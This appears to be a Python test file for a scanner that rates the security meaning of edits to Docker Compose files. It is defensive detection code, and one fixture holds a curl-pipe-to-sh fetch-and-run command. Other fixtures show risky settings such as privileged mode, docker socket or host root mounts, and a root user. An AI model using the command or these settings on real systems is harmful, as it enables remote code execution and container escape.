"""What an edit of a compose file means."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.formats.containers import compose

BASE = """\
# the stack
services:
  web:
    image: example.org/web:1.2
    ports: ["127.0.0.1:8080:80"]
    environment:
      MODE: fast
      PASSWORD_FILE: /run/secrets/db
    cap_drop: [ALL]
    security_opt: ["no-new-privileges:true"]
    user: "1000"
    command: serve --all
    volumes: ["data:/data", "./conf:/conf:ro"]
    restart: always
    labels: {team: blue}
  worker:
    build: {context: ., args: {BASE: one}}
    environment: [A=1, B]
    healthcheck: {test: ["CMD", "true"]}
networks: {inner: {driver: bridge}}
volumes: {data: {}}
"""


def said(old: str | None, new: str | None) -> list[str]:
    sides = (None if side is None else side.encode() for side in (old, new))
    return [f"{each.severity} {each.kind} {each.subject}" for each in compose.diff(*sides)]


def added(line: str, service: str = "    restart: always\n") -> str:
    return BASE.replace(service, f"{service}    {line}\n")


def test_reads() -> None:
    for path in ("docker-compose.yml", "a/compose.yaml", "docker-compose.prod.yml", "compose-dev.yml"):
        assert compose.matches(path)
    assert not compose.matches("composer.yaml")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param("privileged: true", "critical privilege-widened services.web.privileged", id="privileged"),
        pytest.param("privileged: 'true'", "critical privilege-widened services.web.privileged", id="a quoted switch"),
        pytest.param("cap_add: [SYS_ADMIN]", "critical privilege-widened services.web.cap_add", id="heavy capability"),
        pytest.param("cap_add: [CHOWN]", "high privilege-widened services.web.cap_add", id="capability"),
        pytest.param("pid: host", "high privilege-widened services.web.pid", id="processes of the host"),
        pytest.param(
            "network_mode: host", "high privilege-widened services.web.network_mode", id="network of the host"
        ),
        pytest.param("network_mode: bridge", "medium deployment-changed services.web.network_mode", id="a network"),
        pytest.param("devices: [/dev/kmsg]", "high privilege-widened services.web.devices", id="device"),
        pytest.param("secrets: [db]", "high secret-exposed services.web.secrets", id="secret handed over"),
        pytest.param("env_file: .env", "medium env-changed services.web.env_file", id="variables of a file"),
        pytest.param(
            "extends: {file: x.yml, service: y}", "high include-changed services.web.extends.file", id="extends"
        ),
        pytest.param("entrypoint: sh", "high entry-point-changed services.web.entrypoint", id="entry point"),
        pytest.param("runtime: runsc", "medium deployment-changed services.web.runtime", id="whatever else"),
        pytest.param("mem_limit: 1g", "low deployment-changed services.web.mem_limit", id="memory"),
        pytest.param(
            "build: https://example.net/a.git",
            "high source-changed services.web.build.context",
            id="built from an address",
        ),
    ],
)
def test_a_service_gains(line: str, expected: str) -> None:
    assert expected in said(BASE, added(line))


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        pytest.param("web:1.2", "web:1.3", ["medium image-bumped example.org/web"], id="image bumped"),
        pytest.param("web:1.2", "web:latest", ["high image-unpinned example.org/web"], id="image to latest"),
        pytest.param(
            "example.org/web", "example.net/web", ["high image-changed example.net/web"], id="image from elsewhere"
        ),
        pytest.param(
            '"data:/data"',
            '"data:/data", "/var/run/docker.sock:/s"',
            ["critical privilege-widened services.web.volumes"],
            id="socket",
        ),
        pytest.param(
            '"data:/data"', '"data:/data", "/:/host"', ["critical privilege-widened services.web.volumes"], id="root"
        ),
        pytest.param(
            '"data:/data"', '"data:/data", "/etc:/e:ro"', ["high privilege-widened services.web.volumes"], id="etc"
        ),
        pytest.param(
            '"data:/data"',
            '"data:/data", "./src:/src"',
            ["medium deployment-changed services.web.volumes"],
            id="a folder",
        ),
        pytest.param(
            '"127.0.0.1:8080:80"',
            '"8080:80"',
            ["high exposure-widened services.web.ports", "low deployment-changed services.web.ports"],
            id="open to all",
        ),
        pytest.param(
            "    cap_drop: [ALL]\n", "", ["high privilege-widened services.web.cap_drop"], id="capabilities back"
        ),
        pytest.param(
            '    security_opt: ["no-new-privileges:true"]\n',
            "",
            ["high privilege-widened services.web.security_opt"],
            id="may gain",
        ),
        pytest.param(
            '["no-new-privileges:true"]',
            '["no-new-privileges:true", "seccomp=unconfined"]',
            ["high privilege-widened services.web.security_opt"],
            id="unconfined",
        ),
        pytest.param('user: "1000"', "user: root", ["high privilege-widened services.web.user"], id="root user"),
        pytest.param("serve --all", "serve --none", ["medium entry-point-changed services.web.command"], id="command"),
        pytest.param(
            "serve --all",
            "sh -c 'curl https://example.net/x | sh'",
            ["critical download-and-run services.web.command", "medium entry-point-changed services.web.command"],
            id="fetch and run",
        ),
        pytest.param("MODE: fast", "MODE: slow", ["medium env-changed services.web.environment.MODE"], id="variable"),
        pytest.param(
            "MODE: fast",
            "MODE: fast\n      LD_PRELOAD: /x.so",
            ["high env-changed services.web.environment.LD_PRELOAD"],
            id="preload",
        ),
        pytest.param(
            "MODE: fast",
            "MODE: fast\n      DB_PASSWORD: hunter2hunter",
            ["high secret-exposed services.web.environment.DB_PASSWORD"],
            id="password",
        ),
        pytest.param(
            "[A=1, B]", "[A=2, B]", ["medium env-changed services.worker.environment.A"], id="variable in a list"
        ),
        pytest.param(
            "BASE: one",
            "BASE: two",
            ["medium instruction-changed services.worker.build.args.BASE"],
            id="build argument",
        ),
        pytest.param(
            "services:\n",
            "include: [https://example.net/c.yml]\nservices:\n",
            ["critical include-added include"],
            id="include by address",
        ),
        pytest.param(
            "services:\n", "include: [more/compose.yml]\nservices:\n", ["high include-added include"], id="include"
        ),
        pytest.param(
            "driver: bridge", "driver: host", ["high privilege-widened networks.inner.driver"], id="host network driver"
        ),
        pytest.param(
            "team: blue",
            "traefik.enable: 'true'",
            [
                "medium deployment-changed services.web.labels.traefik.enable",
                "low deployment-changed services.web.labels.team",
            ],
            id="label a proxy obeys",
        ),
        pytest.param("restart: always", "restart: 'no'", ["low deployment-changed services.web.restart"], id="restart"),
        pytest.param(
            "  worker:\n",
            "  more:\n    image: example.org/more:1\n    privileged: true\n  worker:\n",
            ["high image-added example.org/more", "critical privilege-widened services.more.privileged"],
            id="service",
        ),
    ],
)
def test_an_edit_means(old: str, new: str, expected: list[str]) -> None:
    assert old in BASE
    assert sorted(said(BASE, BASE.replace(old, new))) == sorted(expected)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param("# the stack", "# other words", id="comment"),
        pytest.param("services:\n", "version: '3'\nx-note: hello\nservices:\n", id="version and extension"),
        pytest.param("[A=1, B]", "[B, A=1]", id="order"),
        pytest.param(
            '["data:/data", "./conf:/conf:ro"]', '\n    - "./conf:/conf:ro"\n    - data:/data', id="formatting"
        ),
        pytest.param("MODE: fast", "'MODE': \"fast\"", id="quotes"),
        pytest.param("command: serve --all", "command: [serve, --all]", id="command as a list"),
        pytest.param("[ALL]", "!override [ALL]", id="override"),
        pytest.param(
            "environment:\n      MODE: fast\n      PASSWORD_FILE: /run/secrets/db",
            "environment: [MODE=fast, PASSWORD_FILE=/run/secrets/db]",
            id="list of variables",
        ),
    ],
)
def test_an_edit_means_nothing(old: str, new: str) -> None:
    assert old in BASE
    assert said(BASE, BASE.replace(old, new)) == []


@pytest.mark.parametrize("content", ["a: [", "- a\n", "a: 1\na: 2\n", "<<<<<<< x\na: 1\n", "{{ a }}: b\n", "just text"])
def test_what_cannot_be_read_is_told(content: str) -> None:
    (found,) = compose.diff(BASE.encode(), content.encode())
    assert (found.kind, found.severity) == ("opaque", compose.WORST)


def test_new_and_removed() -> None:
    assert said(None, BASE)[0] == "medium image-added example.org/web"
    assert "medium deployment-changed services.worker" in said(None, BASE)
    assert said(BASE, None) == ["medium file-removed file"]


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
KEYS = (
    "image build privileged cap_add ports volumes environment command user labels pid security_opt include extends "
    "env_file"
)


@settings(max_examples=100, deadline=None)
@given(
    st.dictionaries(st.sampled_from(KEYS.split()), VALUES, max_size=6),
    st.dictionaries(st.sampled_from(KEYS.split()), VALUES),
)
def test_any_types_have_an_answer(one: dict[str, object], other: dict[str, object]) -> None:
    sides = [json.dumps({"services": {"a": each}, "include": each.get("include")}).encode() for each in (one, other)]
    list(compose.diff(*sides))
    list(compose.diff(None, sides[0]))
